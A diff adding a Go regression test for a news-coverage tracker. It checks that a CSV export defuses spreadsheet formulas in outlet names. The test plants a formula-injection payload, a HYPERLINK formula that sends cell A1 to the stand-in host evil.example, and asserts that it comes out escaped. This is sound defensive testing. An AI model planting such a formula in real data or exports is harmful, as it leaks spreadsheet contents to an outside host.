@@ -91,7 +91,18 @@ func TestCoveragePage(t *testing.T) {
 	if res := f.get(t, c, "/coverage?days=7"); res.code != 400 {
 		t.Errorf("days=7: %d", res.code)
 	}
+	// An outlet's name is the web's: a spreadsheet must not run it.
+	u := "https://evil.example/1"
+	if _, err := f.st.SaveArticle(t.Context(), store.Article{Source: "Evil", Outlet: `=HYPERLINK("https://evil.example/?"&A1)`, URL: u,
+		CanonicalURL: u, Title: "IOM story", Text: "The International Organization for Migration (IOM) said so on Monday.",
+		PublishedAt: time.Now(), Language: "en", Type: "news", Line: "It reported that IOM said so.",
+		Mentions: []store.Mention{{Watch: "International Organization for Migration", Where: "lead", Count: 1, Score: 4, Terms: []string{"IOM"}}}}); err != nil {
+		t.Fatal(err)
+	}
 	res = f.get(t, c, "/coverage.csv?days=90")
+	if !strings.Contains(res.body, `outlet,"'=HYPERLINK(""https://evil.example/?""&A1)"`) || strings.Contains(res.body, "\noutlet,\"=") {
+		t.Errorf("coverage.csv does not defuse a formula in an outlet's name:\n%s", res.body)
+	}
 	if res.code != 200 || !strings.HasPrefix(res.body, "\ufeffkind,name,date,stories\n") || !strings.Contains(res.body, "\noutlet,") ||
 		!strings.Contains(res.head.Get("Content-Disposition"), "-90d.csv") {
 		t.Errorf("coverage.csv: %d %q %s", res.code, res.body, res.head.Get("Content-Disposition"))
